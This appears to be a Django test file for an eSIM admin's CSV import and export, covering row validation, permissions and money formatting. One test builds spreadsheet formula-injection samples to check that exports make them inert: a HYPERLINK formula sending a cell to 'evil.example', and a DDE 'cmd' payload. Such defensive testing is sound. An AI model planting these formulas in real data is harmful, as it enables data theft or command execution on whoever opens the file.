"""Line CSV import: a preview with per-row errors, then the good rows imported and the bad reported."""

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.models import ChangeRecord, Line
from tests.builders import make_charge, make_line, make_package, make_user

IMPORT = "/admin/accounts/line/import/"


def test_import_previews_then_imports_good_rows_and_reports_bad(finance_client, customer):
    client, user = finance_client
    package = make_package(name="Travel 5GB")
    existing = make_line(owner=customer)
    text = (
        "iccid,smdp_address,matching_id,package\n"
        "89860000000000000001,smdp.example.com,AB-1,Travel 5GB\n"
        "89860000000000000002,smdp.example.com,AB-2,\n"
        "1234,smdp.example.com,AB-3,\n"
        f"{existing.iccid},smdp.example.com,AB-4,\n"
        "89860000000000000005,http://bad/,AB-5,\n"
        "89860000000000000006,smdp.example.com,AB-6,No such package\n"
        "89860000000000000002,smdp.example.com,AB-7,\n"
    )
    preview = client.post(IMPORT, {"file": SimpleUploadedFile("lines.csv", text.encode(), content_type="text/csv")})
    page = preview.content.decode()
    assert preview.status_code == 200
    assert "2 rows will be imported, 5 rows have errors" in page
    assert "An ICCID is 18 to 20 digits." in page and "already imported" in page and "appears twice" in page
    assert Line.objects.count() == 1  # nothing written by the preview

    done = client.post(IMPORT, {"text": text, "confirm": "yes"})
    assert done.status_code == 200 and "5 rows were not imported" in done.content.decode()
    imported = Line.objects.exclude(pk=existing.pk).order_by("iccid")
    assert [(line.iccid, line.package_id) for line in imported] == [
        ("89860000000000000001", package.pk),
        ("89860000000000000002", None),
    ]
    assert ChangeRecord.objects.filter(action="imported", actor=user).count() == 2


def test_import_of_a_file_without_the_columns_is_a_form_error(finance_client):
    client, _user = finance_client
    response = client.post(IMPORT, {"file": SimpleUploadedFile("x.csv", b"\xff\xfe not csv", content_type="text/csv")})
    assert response.status_code == 200 and "UTF-8" in response.content.decode()
    response = client.post(IMPORT, {"file": SimpleUploadedFile("x.csv", b"a,b\n1,2\n", content_type="text/csv")})
    assert response.status_code == 200 and "Missing columns" in response.content.decode()


def test_support_may_not_import(support_client):
    client, _user = support_client
    assert client.get(IMPORT).status_code == 403


def test_export_charges_formats_money_at_the_edge(support_client, customer, line, package):
    client, _user = support_client
    charge = make_charge(
        user=customer, line=line, package=package, amount_minor=123456, currency="CNY", status="succeeded"
    )
    response = client.post(
        "/admin/payments/charge/", {"action": "export_charges_csv", "_selected_action": [charge.pk], "index": 0}
    )
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][6:9] == ["1234.56", "0.00", "CNY"]


def test_export_lines_and_customers(support_client, customer, line):
    client, _user = support_client
    lines = client.post(
        "/admin/accounts/line/", {"action": "export_lines_csv", "_selected_action": [line.pk], "index": 0}
    )
    assert line.iccid in lines.content.decode()
    users = client.post(
        "/admin/accounts/user/", {"action": "export_customers_csv", "_selected_action": [customer.pk], "index": 0}
    )
    assert "alice@example.com" in users.content.decode()


def test_admin_exports_neutralise_spreadsheet_formulas_in_customer_text(support_client, line, package):
    client, _user = support_client
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    customer = make_user(email="formula@example.com", name=evil)
    evil_line = make_line(owner=customer, label="x")
    charge = make_charge(
        user=customer, line=evil_line, package=package, failure_message="+cmd|' /C calc'!A0", status="failed"
    )
    exports = [
        client.post(
            "/admin/accounts/user/", {"action": "export_customers_csv", "_selected_action": [customer.pk], "index": 0}
        ),
        client.post(
            "/admin/payments/charge/", {"action": "export_charges_csv", "_selected_action": [charge.pk], "index": 0}
        ),
    ]
    for response in exports:
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    users = list(csv.reader(io.StringIO(exports[0].content.decode("utf-8-sig"))))
    assert users[1][3] == "'" + evil  # still readable, no longer a formula
    charges = list(csv.reader(io.StringIO(exports[1].content.decode("utf-8-sig"))))
    assert charges[1][12] == "'+cmd|' /C calc'!A0"  # the failure reason as the processor wrote it, made inert


def _padded_import(size: int) -> str:
    """A valid CSV of 50 good rows padded with an ignored column to `size` bytes."""
    header = "iccid,smdp_address,matching_id,note\n"
    rows = [f"8986000000000000{n:04d},smdp.example.com,PAD-{n}," for n in range(50)]
    pad = (size - len(header) - sum(len(r) + 1 for r in rows)) // len(rows)
    text = header + "".join(f"{r}{'x' * pad}\n" for r in rows)
    return text + "x" * (size - len(text.encode()))  # a last stray cell fills the exact size: row 52 is blank-ish


def test_an_import_too_large_to_confirm_is_refused_at_preview_and_one_preview_accepts_imports(finance_client, settings):
    client, _user = finance_client
    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE  # what one POST of the previewed text may carry
    too_big = _padded_import(limit + 400_000)
    preview = client.post(IMPORT, {"file": SimpleUploadedFile("big.csv", too_big.encode(), content_type="text/csv")})
    assert preview.status_code == 200
    page = preview.content.decode()
    assert "The file is larger than" in page and "Import the good rows" not in page
    fits = _padded_import(limit - 20_000)
    preview = client.post(IMPORT, {"file": SimpleUploadedFile("fits.csv", fits.encode(), content_type="text/csv")})
    assert "Import the good rows" in preview.content.decode()
    # The browser sends the hidden text back with CRLF line ends, as forms do.
    done = client.post(IMPORT, {"text": fits.replace("\n", "\r\n"), "confirm": "yes"})
    assert done.status_code in (200, 302), done.status_code
    assert Line.objects.filter(matching_id__startswith="PAD-").count() == 50
